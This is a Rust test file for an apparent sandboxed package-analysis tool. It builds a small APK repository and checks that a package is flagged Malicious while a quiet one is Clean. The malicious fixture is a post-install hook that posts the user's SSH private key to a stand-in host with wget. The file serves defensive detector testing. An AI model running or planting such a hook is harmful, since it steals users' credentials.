use apa_model::{Ecosystem, VerdictLabel};
use apa_testkit::ApkPackage;

use std::path::Path;

use crate::support::{Registry, analyze, run, sandbox_works};

const BUSYBOX: &str = "/bin/busybox";

const HOOK: &str = r#"#!/bin/busybox sh
mkdir -p /etc/clock && echo "made by $(id -un)" > /etc/clock/made
wget -q -O /dev/null --post-file "$HOME/.ssh/id_rsa" http://mirror-stats.example/c
exit 0
"#;

/// A repository that makes a system of its own: a layout and a busybox, which is this machine's.
fn repository() -> Option<Registry> {
    let Ok(busybox) = std::fs::read(BUSYBOX) else {
        eprintln!("SKIPPED: {BUSYBOX} is not installed (busybox-static)");
        return None;
    };
    let packages = [
        ApkPackage::new("wolfi-baselayout", "20230201-r1")
            .file("etc/os-release", "ID=test\nNAME=\"Test system\"\n")
            .link("lib", "usr/lib"),
        ApkPackage::new("busybox", "1.37.0-r12")
            .line("provides = cmd:sh=1.37.0-r12 /bin/sh")
            .bytes("bin/busybox", busybox, 0o755)
            .link("bin/sh", "/bin/busybox"),
        ApkPackage::new("libtick", "0.9-r0")
            .line("provides = so:libtick.so.1=0.9")
            .file("usr/lib/libtick.data", "tick\n"),
        ApkPackage::new("clock", "1.2-r0")
            .line("depend = so:libtick.so.1 /bin/sh")
            .script("post-install", HOOK)
            .program(
                "usr/bin/clock",
                "#!/bin/sh\ncat /usr/lib/libtick.data /etc/os-release\n",
            ),
        ApkPackage::new("quiet-clock", "2.0-r0")
            .line("depend = cmd:sh")
            .script("post-install", "#!/bin/sh\nexit 0\n")
            .program("usr/bin/quiet-clock", "#!/bin/sh\necho tick\n"),
    ];
    let files = packages.map(|package| (package.filename(), package.build()));
    Some(Registry::of(Ecosystem::Apk, &files))
}

#[test]
fn a_systems_package_runs_in_a_system_of_its_own_repository() {
    if !sandbox_works("a_systems_package_runs_in_a_system_of_its_own_repository") {
        return;
    }
    let Some(registry) = repository() else { return };
    let flags: Vec<&str> = registry.flags().collect();
    let (report, _) = analyze(Path::new("apk:clock"), &flags);
    let report = report.unwrap();
    assert_eq!(report.verdict.label, VerdictLabel::Malicious);
    assert!(
        report.verdict.incomplete.is_empty(),
        "{:?}",
        report.verdict.incomplete
    );
    let sandbox = report.sandbox.as_ref().unwrap();
    assert!(
        sandbox.image.starts_with("wolfi (sha256:"),
        "{}",
        sandbox.image
    );
    let told = &report.findings[0].explanation.lossy().into_owned();
    assert!(told.contains("post-install hook"), "{told}");
    // The system is the repository's, not this machine's.
    let ran = |exe: &str| {
        report
            .processes
            .iter()
            .any(|it| it.process.exe.lossy() == exe)
    };
    assert!(ran("/bin/busybox") && !ran("/usr/bin/wget"));
    let printed = report.phases.iter().flat_map(|phase| &phase.entries);
    let printed = printed.map(|entry| entry.detail.lossy().into_owned());
    assert!(printed.collect::<String>().contains("Test system"));
    let dropped = |path: &str| report.dropped.iter().any(|it| it.path.lossy() == path);
    assert!(dropped("/etc/clock/made"), "{:?}", report.dropped);

    let (quiet, output) = analyze(Path::new("apk:quiet-clock@2.0-r0"), &flags);
    assert_eq!(quiet.unwrap().verdict.label, VerdictLabel::Clean);
    assert_eq!(output.status.code(), Some(0));

    let listed = run(["image", "list"]);
    let listed = String::from_utf8(listed.stdout).unwrap();
    assert!(listed.starts_with("wolfi\tsha256:"), "{listed}");
    // The same system for a program of any kind, as a folder.
    let unknown = run(["analyze", "--image", "dir:/nowhere", "apk:clock"]);
    assert_ne!(unknown.status.code(), Some(0));
}

#[test]
fn what_is_no_image_is_refused_by_name() {
    for (args, code) in [
        (vec!["image", "build", "gentoo"], 2),
        (vec!["image", "build", "host"], 2),
        (vec!["image", "rm", "nothing-of-that-name"], 2),
        (vec!["image", "pull", "oci:name-without-registry"], 2),
    ] {
        assert_eq!(run(&args).status.code(), Some(code), "{args:?}");
    }
}
